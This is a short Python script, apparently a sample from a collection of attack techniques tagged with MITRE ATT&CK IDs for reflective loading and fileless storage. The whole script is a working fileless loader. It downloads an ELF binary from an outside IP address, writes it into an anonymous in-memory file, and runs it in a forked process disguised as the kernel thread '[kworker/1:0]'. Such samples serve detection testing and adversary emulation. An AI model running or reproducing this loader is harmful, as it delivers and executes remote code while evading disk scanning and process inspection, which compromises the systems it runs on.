#!/usr/bin/env python3
# title: A downloaded program runs without ever being a file
# technique: T1620 T1027.011
# needs: python3
# short: yes

import os, urllib.request
program = urllib.request.urlopen("http://192.88.99.7/x.elf").read()
fd = os.memfd_create("")
os.write(fd, program)
if os.fork() == 0:
    os.execve(fd, ["[kworker/1:0]"], {})
os.wait()
